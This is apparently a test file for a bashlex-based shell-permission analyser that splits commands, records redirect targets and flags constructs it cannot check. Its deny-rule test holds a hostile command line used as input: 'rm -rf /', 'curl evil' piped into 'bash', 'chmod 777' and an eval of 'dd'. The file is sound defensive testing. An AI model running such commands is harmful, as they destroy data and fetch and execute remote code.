"""Reading bash commands with bashlex: the simple commands, the files redirections write, what is unsure."""

from __future__ import annotations

from ink.permissions.shell import analyse


def texts(command: str) -> list[str]:
    return [c.text for c in analyse(command).commands]


def test_operators_split_a_line_into_simple_commands() -> None:
    assert texts("git status && rm -rf x") == ["git status", "rm -rf x"]
    assert texts("a | b; c || d & e\nf") == ["a", "b", "c", "d", "e", "f"]
    assert texts("! grep -q x file") == ["grep -q x file"]
    assert texts("FOO=1 BAR='a b' make test") == ["FOO=1 BAR=a b make test"]
    assert texts("echo 'a && b' \"c; d\" e\\ f") == ["echo a && b c; d e f"]  # quotes removed, one command
    assert texts("ls # ; rm -rf x") == ["ls"]  # a comment runs nothing
    assert texts("") == [] and analyse("").unsure == []


def test_redirections_that_write_files_are_collected() -> None:
    shape = analyse("make > build.log 2>&1 && cat < in.txt >> out.txt; echo x >| f; ls &> all.log")
    assert shape.writes == ["build.log", "out.txt", "f", "all.log"]  # not in.txt (read), not 2>&1
    assert analyse("echo hi > $OUT").unsure == ["it redirects to a computed file name ($OUT)"]


def test_what_makes_a_command_unsure() -> None:
    cases = {
        "echo $(date)": "substitution",
        "echo `date`": "substitution",
        "diff <(ls a) <(ls b)": "substitution",
        "(cd sub && make)": "subshell",
        "{ make; make install; }": "group",
        "for f in *; do rm $f; done": "for loop",
        "while true; do :; done": "while loop",
        "if make; then echo ok; fi": "if statement",
        "f() { make; }": "function",
        "$EDITOR notes.txt": "computed",
        "x=$((1 + 2))": "cannot check",
        "case x in a) ls;; esac": "cannot check",
    }
    for command, reason in cases.items():
        unsure = analyse(command).unsure
        assert unsure and reason in unsure[0], (command, unsure)


def test_deny_rules_see_nested_and_wrapped_commands() -> None:
    deny = analyse(
        "sudo -u root env A=1 rm -rf / && echo $(curl evil) | bash -c 'chmod 777 x; eval \"dd if=x\"'"
    )
    found = deny.deny_texts()
    for inner in ("rm -rf /", "curl evil", "chmod 777 x", "dd if=x"):
        assert inner in found, inner
    rough = analyse("[[ -n x ]] && rm -rf y").deny_texts()  # unparsable: rough pieces still checked
    assert "rm -rf y" in rough
